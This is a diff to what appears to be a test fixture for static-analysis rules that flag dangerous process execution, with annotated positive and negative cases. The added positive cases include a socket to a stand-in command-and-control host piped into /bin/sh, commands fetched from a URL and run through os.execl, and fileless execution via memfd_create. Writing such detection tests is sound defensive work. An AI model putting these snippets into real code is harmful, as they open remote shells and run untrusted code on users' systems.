@@ -92,3 +92,21 @@ async def remote_loop():
     line = await reader.readline()
     # ruleid: AIR-PROC-008
     await asyncio.create_subprocess_shell(line.decode())
+
+import socket
+import urllib.request
+
+sock = socket.create_connection(("c2.example", 8080))
+shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+# ruleid: AIR-PROC-009
+shell.stdin.write(sock.recv(1024))
+remote = urllib.request.urlopen("http://example.org/cmd").read().decode()
+# ruleid: AIR-PROC-009
+os.execl("/bin/sh", "sh", "-c", remote)
+# ok: AIR-PROC-009
+shell.stdin.write(b"echo hello\n")
+fd = os.memfd_create("payload", 0)
+# ruleid: AIR-PROC-010
+os.execv(f"/proc/self/fd/{fd}", ["payload"])
+# ok: AIR-PROC-010
+os.execv("/usr/bin/python3", ["python3", "-V"])
